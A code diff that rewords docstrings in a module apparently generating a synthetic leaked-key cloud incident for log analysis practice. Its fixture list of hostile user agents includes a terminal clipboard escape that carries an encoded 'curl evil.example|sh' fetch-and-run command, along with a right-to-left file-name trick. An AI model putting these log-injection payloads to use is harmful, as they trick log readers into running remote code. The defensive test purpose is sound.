@@ -1,4 +1,4 @@
-"""One incident worth finding: a leaked key looks around, makes itself at home, and stops a trail."""
+"""The incident to find: the holder of a leaked key looks around, creates access for itself, and stops a trail."""
 
 from collections.abc import Iterator
 from dataclasses import dataclass
@@ -19,11 +19,11 @@ HOSTILE_AGENTS = (
     "aws-cli/2.0 \u202egpj.reganam\u202c \u2066invoice\u2069\u200b",
     "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07curl/8.5 [link=https://evil.example]docs[/link]",
 )
-"""User agents as someone sends them who knows that logs are read in terminals and consoles."""
+"""Hostile user agents, from an attacker who knows that logs are read in terminals and consoles."""
 
 
 def incident_begins(seed: int, now: int) -> int:
-    """The epoch second of the leaked key's first call: in the small hours of UTC, one to two days before `now`."""
+    """The epoch second of the leaked key's first call: early morning UTC, one to two days before `now`."""
     dice = SampleAccount(seed, "").dice("incident")
     night = (now - 24 * HOUR) // (24 * HOUR) * 24 * HOUR + 2 * HOUR + dice.randrange(2 * HOUR)
     return night if night + 2 * HOUR < now - 12 * HOUR else night - 24 * HOUR
@@ -44,7 +44,7 @@ class _Thief:
 
 
 def incident(sample: SampleAccount, now: int) -> Scene:
-    """All records of the incident, wherever its hours fall."""
+    """All records of the incident, in whichever hours they are."""
     start = incident_begins(sample.seed, now)
     scene = Scene(sample, "incident", start // HOUR)
     thief = _Thief(
@@ -166,7 +166,7 @@ def _leave_texts(scene: Scene, actor: Actor, start: int) -> None:
 
 
 def _seconds(scene: Scene, start: int) -> Iterator[int]:
-    """Ever later seconds: a script first works fast, then its owner reads."""
+    """Increasing seconds: first a script works fast, then its owner reads."""
     second = start
     while True:
         yield second
